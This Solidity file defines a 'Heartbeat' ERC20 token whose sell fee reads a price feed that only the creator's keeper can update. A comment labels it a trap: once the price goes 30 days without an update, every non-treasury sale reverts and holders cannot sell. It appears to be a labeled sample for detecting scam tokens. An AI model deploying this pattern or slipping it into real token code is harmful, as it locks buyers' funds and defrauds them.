// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EPair} from "./Pair.sol";

contract EPriceFeed {
    address public immutable keeper;
    int256 private _answer = 3000e8;
    uint256 private _updatedAt = block.timestamp;
    uint80 private _round = 1;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function decimals() external pure returns (uint8) {
        return 8;
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (_round, _answer, _updatedAt, _updatedAt, _round);
    }

    function submit(int256 answer) external {
        require(msg.sender == keeper, "keeper");
        require(answer >= 100e8 && answer <= 100_000e8, "bounds");
        _answer = answer;
        _updatedAt = block.timestamp;
        _round++;
    }
}

// Trap: a sale's small fee follows ether's price, and a price older than 30 days is refused as stale, and the sale with it; only the creator's keeper submits prices and never has. Sprung by: nobody; the sale that works today fails in 16 days.
contract EHeartbeat is ERC20 {
    EPriceFeed public immutable feed;
    address public immutable pool;
    address public immutable treasury;
    uint256 public constant HEARTBEAT = 30 days;

    error StalePrice(uint256 updatedAt);

    constructor() ERC20("Heartbeat", "BEAT") {
        feed = new EPriceFeed(msg.sender);
        pool = EPair.predict(address(this));
        treasury = msg.sender;
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function sellFeeBps() public view returns (uint256) {
        (, int256 answer, , uint256 updatedAt, ) = feed.latestRoundData();
        if (block.timestamp - updatedAt > HEARTBEAT) revert StalePrice(updatedAt);
        return answer > 5000e8 ? 100 : answer > 2500e8 ? 200 : 300;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pool && from != treasury) {
            uint256 fee = (value * sellFeeBps()) / 10_000;
            super._update(from, treasury, fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}
